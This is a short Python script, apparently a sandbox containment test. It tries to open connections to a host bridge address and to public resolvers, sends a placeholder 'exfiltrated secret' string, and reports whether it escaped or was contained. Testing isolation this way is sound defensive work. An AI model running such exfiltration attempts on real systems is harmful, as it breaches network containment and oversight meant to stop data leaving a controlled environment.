"""Network exfiltration by IP: connect to a listener on the host's bridge address, and to the internet."""
import json
import socket

print("STARTED", flush=True)
params = json.load(open("hostile.json"))
targets = [(params["host_ip"], params["host_port"]), ("1.1.1.1", 443), ("8.8.8.8", 53)]
escaped = []
for host, port in targets:
    try:
        with socket.create_connection((host, port), timeout=2) as conn:
            conn.sendall(b"exfiltrated secret\n")
            escaped.append(f"{host}:{port}")
    except OSError as exc:
        print(f"blocked {host}:{port}: {exc}", flush=True)
print(f"ESCAPED connected to {escaped}" if escaped else "CONTAINED no connection", flush=True)
